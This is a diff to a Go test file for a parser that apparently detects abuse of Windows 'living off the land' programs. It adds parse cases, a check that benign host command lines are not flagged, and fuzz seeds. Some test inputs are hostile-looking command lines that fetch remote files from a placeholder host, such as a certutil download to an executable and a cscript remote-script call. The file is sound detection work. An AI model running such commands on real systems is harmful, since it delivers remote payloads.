@@ -1,6 +1,10 @@
 package lolbas
 
 import (
+	"encoding/csv"
+	"os"
+	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -61,8 +65,11 @@ func TestParse(t *testing.T) {
 		{"a long dash is a dash", "Mftrace.exe", "mftrace \u2013a 12", "attach", []Payload{{PayloadAttach, "12", ""}}, false},
 		{"an attach target may be a name with blanks", "Mftrace.exe", `mftrace -a "my player.exe"`, "attach", []Payload{{PayloadAttach, "my player.exe", ""}}, false},
 		{"a trace file in quotes is converted", "Mftrace.exe", `mftrace "C:\my traces\A.ETL"`, "convert", []Payload{{PayloadFile, `C:\my traces\A.ETL`, ""}}, false},
-		{"options alone ask for nothing", "Mftrace.exe", `mftrace -v`, "", nil, false},
-		{"no arguments ask for nothing", "Mftrace.exe", `mftrace.exe`, "", nil, false},
+		{"options alone ask for nothing", "Mftrace.exe", `mftrace -v`, "help", nil, false},
+		{"no arguments ask for nothing", "Mftrace.exe", `mftrace.exe`, "help", nil, false},
+		{"a library that is not named", "Shimgvw.dll", `explorer.exe x,y http://files.example.com/a.exe`, "", nil, false},
+		{"a script that is not named", "Pubprn.vbs", `cscript other.vbs script:http://files.example.com/a`, "", nil, false},
+		{"neither name nor line", "", ``, "", nil, false},
 		{"a crash handler is no payload", "Mftrace.exe", `mftrace WerFault.exe -u -p 12`, "launch", nil, true},
 		{"a console host alone is no payload", "Mftrace.exe", `mftrace C:\Windows\System32\conhost.exe 0x4`, "launch", nil, true},
 		{"the address comes first, then where it goes", "Certutil.exe", `certutil -urlcache -f http://files.example.com/x C:\Temp\x.exe`, "download",
@@ -182,10 +189,39 @@ func TestHostileLinesAreReadInBoundedTime(t *testing.T) {
 	}
 }
 
+// What a real host ran without an attacker is ordinary use.
+func TestEverydayLinesOfARealHostAreOrdinary(t *testing.T) {
+	f, err := os.Open(filepath.FromSlash("../../shared/evidence/msticpy/mde_proc_pub.csv"))
+	if err != nil {
+		t.Skip("no evidence in ../shared/evidence")
+	}
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	column := func(name string) int { return slices.Index(rows[0], name) }
+	file, line := column("FileName"), column("ProcessCommandLine")
+	seen := 0
+	for _, row := range rows[1:] {
+		for _, e := range ByName(row[file]) {
+			seen++
+			if u := Parse(e.Name, row[line]); u.Abuse || u.Mode == "" {
+				t.Errorf("%s\n%+v", row[line], u)
+			}
+		}
+	}
+	if seen < 80 {
+		t.Errorf("only %d lines of listed programs", seen)
+	}
+}
+
 func FuzzParse(f *testing.F) {
 	for _, x := range examples(f) {
 		f.Add(x.program, x.line)
 	}
+	f.Add("Rundll32.exe", `rundll32 ,Go`)
+	f.Add("Powershell.exe", `powershell -c "" -File ""`)
 	f.Fuzz(func(t *testing.T, name, line string) {
 		u := Parse(name, line)
 		if len(u.Payloads) > 4 || len(u.Says) > 2000 {
